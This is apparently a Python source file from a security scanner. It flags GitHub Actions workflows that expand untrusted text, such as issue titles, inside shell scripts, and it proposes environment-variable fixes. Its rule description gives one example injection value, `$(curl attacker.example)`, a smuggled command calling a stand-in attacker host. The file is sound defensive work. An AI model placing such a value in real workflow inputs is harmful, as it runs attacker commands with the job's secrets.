"""Text chosen by others, pasted into scripts before they run."""

import re
from collections.abc import Iterator

from assay.inspectors._base import Match
from assay.inspectors.workflows._expressions import Context, Fence, parsed
from assay.inspectors.workflows._model import Step, Workflow
from assay.inspectors.workflows._origins import Origin
from assay.inspectors.workflows._scripts import located_fences, runs_in_bash, scripts
from assay.inspectors.workflows._taint import Known, Scope, Source
from assay.model.finding import Edit, Fix
from assay.model.outcome import Confidence, Severity
from assay.model.rule import Rule
from assay.source import yaml

RULE = Rule(
    id="workflows/template-injection",
    title="Untrusted text expanded inside of a script",
    severity=Severity.HIGH,
    why="`${{ }}` is replaced before the script runs, so a title such as `$(curl attacker.example)` becomes part of the"
    " program and runs with the job's token and secrets.",
    remedy="Give the value to the step as an environment variable and let the script read it, in quotes.",
    controls=("OWASP:CICD-SEC-4", "NIST-800-53:SI-10", "CWE-94", "CWE-78"),
)

_WEIGHT = {
    Origin.OUTSIDER: (Severity.HIGH, Confidence.HIGH, "is chosen by anyone who can open an issue or a pull request"),
    Origin.WRITER: (Severity.MEDIUM, Confidence.MEDIUM, "is chosen by anyone with write access"),
    Origin.CALLER: (Severity.MEDIUM, Confidence.MEDIUM, "is chosen by whoever starts or calls this"),
    Origin.COMPUTED: (Severity.LOW, Confidence.LOW, "is computed by a step, perhaps from what others wrote"),
}
# Beyond it nobody reviews the edit, and looking for quotes before each of many places takes quadratic time.
_MAX_FIXED_SCRIPT = 50_000
# A context by names alone, at least one of them its property.
_PLAIN_PATH = re.compile(r"(?!github\.event$)[A-Za-z_][\w-]*(?:\.[A-Za-z_][\w-]*)+", re.ASCII)


def check(workflow: Workflow) -> Iterator[Match]:
    """Yield every `${{ }}` in a script whose value others can choose."""
    known: Known = {}
    for step in workflow.steps:
        scope = Scope(workflow=workflow, job=step.job, step=step, known=known)
        for place, script in scripts(step):
            for fence, start, end in located_fences(workflow.data, script):
                expression = parsed(fence.body)
                source = max(scope.sources(expression), key=_origin, default=None) if expression else None
                if source and source.origin in _WEIGHT:
                    severity, confidence, who = _WEIGHT[source.origin]
                    name = fence.body if isinstance(expression, Context) else ".".join(source.context.path)
                    yield Match(
                        rule=RULE.id,
                        start=start,
                        end=end,
                        message=f"{name} {who}, and becomes part of the script",
                        anchor=f"{step.path}.{place}",
                        severity=severity,
                        confidence=confidence,
                        fix=_fix(workflow, step, fence, (start, end)) if place == "run" else None,
                    )


def _origin(source: Source) -> Origin:
    return source.origin


def _fix(workflow: Workflow, step: Step, fence: Fence, span: tuple[int, int]) -> Fix | None:
    """Offer a variable where the script is a shell's, and the shell would read the variable at this place."""
    script = step.run.text if step.run else ""
    literal = span[1] - span[0] == len(script[fence.start : fence.end].encode())
    if not literal or not _PLAIN_PATH.fullmatch(fence.body):
        return None
    if not runs_in_bash(workflow, step) or not _expands(script, fence):
        return None
    variable = _variable(fence.body)
    declared = _declare(workflow.data, step, variable, fence.body)
    if declared is None:
        return None
    use = Edit(start=span[0], end=span[1], replacement=f"${{{variable}}}")
    # A value with white space or `*` is split and expanded where the script does not quote it.
    return Fix(description=f"read the value from the variable {variable}", safe=False, edits=(declared, use))


def _expands(script: str, fence: Fence) -> bool:
    """Whether the shell expands variables there: not in single quotes, and in no here-document."""
    if len(script) > _MAX_FIXED_SCRIPT or "<<" in script:
        return False
    line = script[script.rfind("\n", 0, fence.start) + 1 : fence.start]
    return "'" not in line and script.count("'", 0, fence.start) % 2 == 0


def _variable(path: str) -> str:
    """`PULL_REQUEST_TITLE` for `github.event.pull_request.title`: the last two names, without GitHub's own prefix."""
    names = path.removeprefix("github.").removeprefix("event.").split(".")[-2:]
    return "_".join(names).upper().replace("-", "_")


def _declare(data: bytes, step: Step, variable: str, value: str) -> Edit | None:
    line = f"{variable}: ${{{{ {value} }}}}"
    env = step.node.pairs.get("env")
    match env and env.value:
        case None if step.node.flow:
            return None
        case None:
            return yaml.insert_before(data, step.node.pairs["run"], ("env:", f"  {line}"))
        case yaml.Mapping(flow=False, pairs=pairs) if variable not in pairs:
            return yaml.insert_before(data, next(iter(pairs.values())), (line,))
        case _:
            return None
